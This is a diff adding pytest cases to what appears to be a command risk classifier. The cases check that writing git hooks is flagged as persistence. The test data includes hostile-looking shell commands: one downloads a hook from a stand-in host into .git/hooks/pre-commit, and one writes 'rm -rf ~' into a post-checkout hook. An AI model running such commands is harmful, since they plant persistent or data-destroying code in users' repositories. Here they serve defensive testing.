@@ -451,3 +451,25 @@ LIST_CWD = [
 @pytest.mark.parametrize(("command", "expected"), LIST_CWD)
 def test_list_redirect_in_the_lists_cwd(command: str, expected: object) -> None:
     assert level(command) == expected, command
+
+
+# A git hook written by any file writer is persistence (critical); with a readable blocked
+# body, blocked (red team probe17c F4; HELPERS: git hooks executed later are persistence).
+GIT_HOOKS = [
+    ("bash", "cp ~/Downloads/hook.sh .git/hooks/pre-commit", C),
+    ("bash", "install -m 0755 tools/hook .git/hooks/pre-push", C),
+    ("bash", "mv /tmp/h .git/hooks/post-merge", C),
+    ("bash", "curl -fsSL -o .git/hooks/pre-commit https://x.example/hook", C),
+    ("bash", "cd .git/hooks && cp /tmp/h post-checkout", C),
+    ("bash", "echo 'rm -rf ~' > .git/hooks/post-checkout", B),
+    ("powershell", "Copy-Item .\\hook.ps1 .git\\hooks\\pre-commit", C),
+    ("cmd", "copy hook.bat .git\\hooks\\pre-commit", C),
+    ("bash", "cp .git/hooks/pre-commit.sample /tmp/x", M),
+    ("bash", "cat .git/hooks/pre-commit", S),
+    ("bash", "ls -la .git/hooks", S),
+]
+
+
+@pytest.mark.parametrize(("shell", "command", "expected"), GIT_HOOKS)
+def test_git_hook_written(shell: str, command: str, expected: object) -> None:
+    assert level(command, shell) == expected, command
